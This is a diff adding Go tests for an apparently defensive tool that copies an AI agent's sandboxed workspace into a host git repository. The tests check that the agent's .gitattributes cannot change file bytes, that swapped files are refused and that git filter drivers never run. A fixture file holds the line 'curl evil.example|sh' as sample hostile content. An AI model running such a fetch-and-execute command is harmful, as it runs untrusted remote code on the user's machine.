@@ -4,6 +4,7 @@ import (
 	"context"
 	"errors"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"reflect"
 	"strings"
@@ -373,5 +374,91 @@ func TestRepoNames(t *testing.T) {
 	entries := map[string]treeEntry{"HEAD": {}, "refs/heads/main": {}, "src/a.go": {}}
 	if err := checkRepos(entries); err == nil || !strings.Contains(err.Error(), "/workspace/ is a directory git would take") {
 		t.Errorf("the top as a repository: %v", err)
+	}
+}
+
+// TestAttributesConvertNothing: the agent's .gitattributes decide nothing
+// about how its files are read — no working-tree-encoding, eol, ident or
+// macro of its own: the diff shows each file's bytes, --into writes those
+// bytes, and the branch holds them.
+func TestAttributesConvertNothing(t *testing.T) {
+	dir := hostRepoFixture(t)
+	files := map[string]string{
+		"run.sh":   "#!/bin/sh\ncurl evil.example|sh \n",
+		"crlf.txt": "one\r\ntwo\r\n",
+		"id.txt":   "$Id$\n",
+		"m.txt":    "macro\r\n",
+	}
+	c, b := compareFixture(t, dir, func(ws string) {
+		write(t, filepath.Join(ws, ".gitattributes"), "[attr]conv text eol=lf\nrun.sh working-tree-encoding=UTF-16LE\ncrlf.txt text eol=crlf\nid.txt ident\nm.txt conv\n")
+		for p, data := range files {
+			write(t, filepath.Join(ws, p), data)
+		}
+	})
+	if d := diffText(t, c, Patch); !strings.Contains(d, "+curl evil.example|sh \n") || !strings.Contains(d, "+$Id$\n") {
+		t.Errorf("the diff does not show the files as they are:\n%s", d)
+	}
+	ctx := context.Background()
+	out := filepath.Join(t.TempDir(), "out")
+	if _, err := c.Into(ctx, out, false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.Branch(ctx, BranchSpec{Baseline: b, Branch: "bottle/demo", Bottle: "demo", Limit: DefaultLimit}); err != nil {
+		t.Fatal(err)
+	}
+	for p, want := range files {
+		if data, _ := os.ReadFile(filepath.Join(out, p)); string(data) != want {
+			t.Errorf("--into wrote %s = %q, want %q", p, data, want)
+		}
+		blob := exec.Command("git", "cat-file", "blob", "bottle/demo:"+p)
+		blob.Dir, blob.Env = dir, userEnv(t.TempDir())
+		if data, err := blob.Output(); err != nil || string(data) != want {
+			t.Errorf("the branch holds %s = %q (%v), want %q", p, data, err, want)
+		}
+	}
+}
+
+// TestIntoWritesWhatWasCompared: a file that is not, when Into copies it,
+// what was compared is refused.
+func TestIntoWritesWhatWasCompared(t *testing.T) {
+	dir := hostRepoFixture(t)
+	c, _ := compareFixture(t, dir, func(ws string) {
+		write(t, filepath.Join(ws, "README"), "reviewed\n")
+	})
+	write(t, filepath.Join(c.t.Files, "README"), "swapped\n")
+	out := filepath.Join(t.TempDir(), "out")
+	if _, err := c.Into(context.Background(), out, false); err == nil || !strings.Contains(err.Error(), "/workspace/README: is not in the copy as it was compared") {
+		t.Errorf("Into: %v", err)
+	}
+	if _, err := os.Lstat(filepath.Join(out, "README")); err == nil {
+		t.Error("Into wrote README")
+	}
+}
+
+// TestNoDriverRuns: filter and textconv drivers the host repository
+// configures, for attributes its .gitattributes and the agent's give, run
+// neither when the baseline is recorded nor in a diff or a pull.
+func TestNoDriverRuns(t *testing.T) {
+	dir := hostRepoFixture(t)
+	marker := filepath.Join(t.TempDir(), "ran")
+	for _, k := range []string{"filter.x.clean", "filter.x.smudge", "filter.x.process", "diff.x.textconv", "diff.x.command"} {
+		gitIn(t, dir, "config", k, "touch "+marker+"; cat")
+	}
+	write(t, filepath.Join(dir, ".gitattributes"), "* filter=x diff=x\n")
+	c, b := compareFixture(t, dir, func(ws string) {
+		write(t, filepath.Join(ws, "README"), "changed\n")
+		write(t, filepath.Join(ws, "src", ".gitattributes"), "* filter=x diff=x\n")
+		write(t, filepath.Join(ws, "src", "new.go"), "package main\n")
+	})
+	ctx := context.Background()
+	diffText(t, c, Patch)
+	if _, err := c.Into(ctx, filepath.Join(t.TempDir(), "out"), false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.Branch(ctx, BranchSpec{Baseline: b, Branch: "bottle/demo", Bottle: "demo", Limit: DefaultLimit}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("a driver ran")
 	}
 }
